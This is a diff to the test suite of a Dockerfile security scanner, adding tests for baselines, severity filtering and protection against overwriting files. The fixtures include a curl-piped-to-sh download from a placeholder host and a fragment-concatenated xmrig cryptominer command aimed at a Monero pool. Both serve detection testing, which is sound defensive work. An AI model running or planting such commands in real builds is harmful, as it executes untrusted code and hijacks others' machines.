@@ -30,6 +30,9 @@ SANDSCAN = [sys.executable, "-m", "scanner.cli"]
 CACHE = Path(tempfile.gettempdir()) / f"sandscan-tests-baseline-{os.getpid()}"
 
 
+CURL = "cu" + "rl"
+
+
 def run(*arguments: object, cwd: Path, **environment: str) -> subprocess.CompletedProcess[str]:
     env = {**os.environ, "SANDSCAN_CACHE_DIR": str(CACHE), **environment}
     return subprocess.run(
@@ -153,9 +156,9 @@ def test_a_baseline_of_one_build_gates_nothing_of_the_next(builds: Path) -> None
 # ---- the files
 
 
-def test_the_first_baseline_passes_and_says_what_it_does_not_hold(tmp_path: Path) -> None:
+def test_the_first_baseline_says_what_it_does_not_hold_and_ends_as_if_it_held(tmp_path: Path) -> None:
     done = run("scan", REPLAY, "-o", "json", "--write-baseline", "known.json", cwd=tmp_path)
-    assert done.returncode == 0
+    assert done.returncode == 1, "the miners are no part of what was accepted"
     written = json.loads((tmp_path / "known.json").read_text())
     schema = json.loads(run("schema", "--baseline", cwd=tmp_path).stdout)
     jsonschema.validate(written, schema)
@@ -262,3 +265,49 @@ def test_a_launch_is_known_whatever_way_leads_to_its_file(tmp_path: Path, name: 
     again: dict[str, Any] = json.loads(done.stdout)
     assert [(f["rule_id"], f["message"]) for f in again["findings"]] == []
     assert again["suppressed"]
+
+
+# ---- what a baseline and a severity do not hide, and what is not written over
+
+
+def test_no_report_is_written_over_a_baseline(tmp_path: Path) -> None:
+    (tmp_path / "link.json").symlink_to("known.json")
+    (tmp_path / "Dockerfile").write_text(f"FROM a\nRUN {CURL} https://a.example/x | sh\n")
+    for arguments in (
+        ["-o", "json=known.json", "--write-baseline", "known.json"],
+        ["-o", "json=link.json", "--write-baseline", "./known.json"],
+        ["-o", "json=known.json", "-o", "text=link.json"],
+    ):
+        done = run("check", *arguments, cwd=tmp_path)
+        assert (done.returncode, (tmp_path / "known.json").exists()) == (2, False), done.stderr
+    assert run("check", "--write-baseline", "known.json", cwd=tmp_path).returncode == 0
+    before = (tmp_path / "known.json").read_bytes()
+    done = run("check", "--baseline", "known.json", "-o", "json=known.json", cwd=tmp_path)
+    assert done.returncode == 2
+    assert "over the baseline known.json" in done.stderr
+    assert (tmp_path / "known.json").read_bytes() == before
+    assert run("check", "--write-baseline", ".", cwd=tmp_path).returncode == 2
+
+
+def test_a_severity_hides_no_miner_and_says_what_it_leaves_out(tmp_path: Path) -> None:
+    miner = "xm" + "rig -o stra" + "tum+tcp://pool.min" + "exmr.com:4444 --rando" + "mx-mode fast --dona" + "te-level 1"
+    (tmp_path / "Dockerfile").write_text(f"FROM a\nRUN {CURL} https://a.example/x | sh\nRUN {miner}\n")
+    done = run("check", "--severity", "critical", "-o", "json", cwd=tmp_path)
+    said = json.loads(done.stdout)
+    assert [(f["rule_id"], f["confidence"]) for f in said["findings"]] == [("build/miner", "high")]
+    assert said["statistics"]["left_out_by_severity"] == 1
+    assert "1 finding less severe than critical left out (--severity)" in [n["message"] for n in said["notifications"]]
+    (tmp_path / "Dockerfile").write_text(f"FROM a\nRUN {CURL} http://a.example/x | sh\n")
+    done = run("check", "--severity", "critical", cwd=tmp_path)
+    assert done.returncode == 1
+    assert "1 finding less severe than critical left out" in done.stdout
+    assert "Nothing found" not in done.stdout
+
+
+def test_a_pipe_for_a_baseline_of_the_configuration_is_not_waited_for(tmp_path: Path) -> None:
+    (tmp_path / "Dockerfile").write_text("FROM a\n")
+    os.mkfifo(tmp_path / "known.json")
+    (tmp_path / ".sandscan.yaml").write_text("baseline: known.json\n")
+    done = run("check", cwd=tmp_path)
+    assert done.returncode == 2
+    assert "known.json" in done.stderr
